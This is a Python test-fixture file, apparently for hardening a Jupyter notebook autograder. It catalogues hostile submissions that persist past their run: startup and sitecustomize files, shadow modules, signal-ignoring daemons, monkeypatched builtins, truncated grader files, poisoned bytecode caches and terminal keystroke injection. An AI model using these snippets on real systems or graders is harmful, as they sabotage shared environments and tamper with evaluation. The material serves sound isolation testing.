"""Outlive the submission: submissions that leave something behind for the next one, or for the grader.

`CELLS` holds the text of the first solution cell, `FILES` what lies beside the notebook. The neighbours that are
graded after them must not notice.
"""

CELLS = {
    "startup_files": (
        "Leaves IPython start-up files, sitecustomize, usercustomize and .pth files wherever they can be written.",
        """import os, site, sys
text = "import numpy as np\\nnp.tanh = lambda z: z\\n"
for folder in [os.path.expanduser("~/.ipython/profile_default/startup"), os.path.expanduser("~/.jupyter"),
               os.path.expanduser("~/.local/lib/python3.11/site-packages"), "/code", "/env/packages", "/tmp", "."]:
    for name in ("00-owned.py", "sitecustomize.py", "usercustomize.py", "owned.pth", "ipython_config.py"):
        try:
            os.makedirs(folder, exist_ok=True)
            open(os.path.join(folder, name), "w").write(text)
        except OSError: pass
""",
    ),
    "shadow_modules": (
        "Leaves numpy.py, json.py and autograder.py in its folder for whoever comes next.",
        """for name in ("numpy", "json", "autograder", "ipykernel_launcher", "random", "encodings"):
    open(name + ".py", "w").write("raise SystemExit('owned')")
""",
    ),
    "daemon_children": (
        "Leaves children that left its session and group, ignore signals and write for ever.",
        """import os, signal, time
if os.fork() == 0:
    os.setsid()
    for number in range(1, 64):
        try: signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError): pass
    if os.fork() == 0:
        while True:
            for fd in range(3, 20):
                try: os.write(fd, b"owned\\n")
                except OSError: pass
            time.sleep(0.01)
    os._exit(0)
""",
    ),
    "threads_that_stay": (
        "Leaves threads that are no daemons and hold locks of logging and of imports.",
        """import threading, logging, time, _imp
def hold():
    logging._lock.acquire() if hasattr(logging, "_lock") else None
    _imp.acquire_lock()
    while True: time.sleep(1)
threading.Thread(target=hold, daemon=False).start()
time.sleep(0.05)
""",
    ),
    "poisoned_packages": (
        "Changes NumPy, builtins, json and IPython in the memory it shares with the fork server.",
        """import numpy as np, builtins, json, ctypes
np.tanh = np.exp = lambda *a, **k: 0
builtins.len = builtins.print = lambda *a, **k: 0
json.dumps = lambda *a, **k: "{}"
get_ipython().__class__.run_cell = lambda *a, **k: None
ctypes.memset(id(np.pi), 0, 24)
""",
    ),
    "files_on_the_host": (
        "Writes its mark into every folder that it can think of.",
        """import os, tempfile
mark = "attacker_was_here"
for folder in ("/", "/tmp", "/var/tmp", "/dev/shm", "/run", "/root", "/home", "/etc", "/env", "/code", "/var/cache",
               os.path.expanduser("~"), tempfile.gettempdir(), "..", "../..", "/proc", "/sys", "/env/packages/numpy"):
    try: open(os.path.join(folder, mark), "w").write(mark)
    except OSError: pass
""",
    ),
    "changes_the_code": (
        "Overwrites, renames, truncates and re-mounts the grader's files and the environment's.",
        """import os, ctypes, numpy
for path in ("/code/autograder/check.py", "/code/autograder/wire.py", "/env/bin/python3", numpy.__file__):
    for act in (lambda: os.truncate(path, 0), lambda: os.rename(path, path + "x"), lambda: os.unlink(path),
                lambda: os.chmod(path, 0o777), lambda: os.utime(path), lambda: open(path, "r+b").write(b"x"),
                lambda: os.setxattr(path, "user.x", b"x"), lambda: os.link(path, "/scratch/link")):
        try: act(); print("changed", path)
        except OSError: pass
    ctypes.CDLL(None).mount(None, path.encode(), None, 32, None)
""",
    ),
    "limits_for_the_next": (
        "Lowers its resource limits, priority, affinity and umask, and fills its accounts for the next one.",
        """import os, resource, signal
for limit in (resource.RLIMIT_NOFILE, resource.RLIMIT_FSIZE, resource.RLIMIT_STACK):
    resource.setrlimit(limit, (64, 64))
os.nice(19)
os.umask(0o777)
try: os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
except OSError: pass
signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 64))
""",
    ),
    "closed_descriptors": (
        "Closes every descriptor, and opens others of its own in their places.",
        """import os
os.closerange(0, 128)
for i in range(20): os.open("/dev/null", os.O_RDWR)
""",
    ),
    "bytecode_caches": (
        "Leaves __pycache__ files of our modules and of NumPy, made of other code.",
        """import os, py_compile, sys, autograder
open("evil.py", "w").write("raise SystemExit")
for folder in (autograder.__path__[0], "/code/autograder/run", "/env/packages/numpy", "."):
    try:
        os.makedirs(folder + "/__pycache__", exist_ok=True)
        py_compile.compile("evil.py", f"{folder}/__pycache__/check.{sys.implementation.cache_tag}.pyc")
    except OSError: pass
""",
    ),
    "fifos_and_sockets": (
        "Leaves FIFOs, sockets and locked files under names that the next one may open.",
        """import os, socket, fcntl
for i, name in enumerate((".ipython", "ps1_rnn.ipynb", "numpy.py", "matplotlib")):
    try: os.mkfifo(name) if i % 2 else socket.socket(socket.AF_UNIX).bind(name)
    except OSError: pass
held = open("/dev/null"); fcntl.flock(held, fcntl.LOCK_EX)
""",
    ),
    "terminal_taken": (
        "Takes the controlling terminal, types into it, and stops whoever stands in its process group.",
        """import fcntl, os, signal, termios
for path in ("/dev/tty", "/dev/pts/0", "/dev/console", "/dev/tty0"):
    try:
        fd = os.open(path, os.O_RDWR)
        for letter in b"touch owned\\n": fcntl.ioctl(fd, termios.TIOCSTI, bytes([letter]))
        print("typed")
    except OSError: pass
for fd in range(20):
    try: fcntl.ioctl(fd, termios.TIOCSTI, b"x"); print("typed")
    except OSError: pass
""",
    ),
}


def modules_beside(folder, notebook):
    (folder / "ps1_rnn.ipynb").write_bytes(notebook)
    for name in ("numpy", "autograder", "ipykernel_launcher", "sitecustomize", "json", "IPython", "rnnlib"):
        (folder / f"{name}.py").write_text("import os\nopen('attacker_was_here', 'w').write('1')\nraise SystemExit\n")


def configuration_beside(folder, notebook):
    (folder / "ps1_rnn.ipynb").write_bytes(notebook)
    for name in ("nbgrader_config.py", "jupyter_config.py", "ipython_config.py", "conftest.py"):
        (folder / name).write_text("open('attacker_was_here', 'w').write('1')\nc = get_config()\n")


FILES = {
    "modules_beside": ("Hands in numpy.py, ipykernel_launcher.py and others beside the notebook.", modules_beside),
    "configuration_beside": ("Hands in configuration of nbgrader, Jupyter and pytest.", configuration_beside),
}
